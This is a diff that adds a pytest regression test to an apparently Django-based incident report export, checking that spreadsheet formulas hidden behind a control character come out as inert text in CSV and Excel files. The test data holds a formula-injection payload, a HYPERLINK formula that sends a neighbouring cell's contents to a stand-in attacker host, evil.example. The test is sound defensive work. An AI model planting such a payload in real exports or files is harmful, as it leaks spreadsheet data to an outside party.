@@ -266,6 +266,28 @@ def test_the_excel_export_leaves_out_control_characters_excel_cannot_hold(client
     assert "Call the school\ttoday" in action_row
 
 
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_formula_behind_a_control_character_is_written_as_text_with_its_apostrophe(
+    client_for, demo, file_format
+):
+    """The defect: the apostrophe was decided before the control characters were left out, so a title starting
+    with one then "=" reached the Excel file as a live formula (a link sending the next cells away). Now the
+    characters are left out first, in both formats, and an Excel file's text cells are all written as text."""
+    IncidentFactory(partnership=demo, title='\x01=HYPERLINK("http://evil.example/?leak="&B3,"Details")')
+    IncidentFactory(partnership=demo, title="#N/A")
+    response = client_for("coordinator").get(reverse("reports:export", args=["incidents", file_format]))
+    if file_format == "csv":
+        _, _, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        titles = [row[1] for row in rows]
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        titles = [cell.value for cell in sheet["B"][2:]]
+        assert {
+            cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
+        } == {"s"}
+    assert sorted(titles) == ["#N/A", '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")']
+
+
 @pytest.mark.parametrize("dataset", ["incidents", "actions"])
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 def test_a_download_with_a_filter_not_in_the_list_is_explained_and_hands_out_nothing(
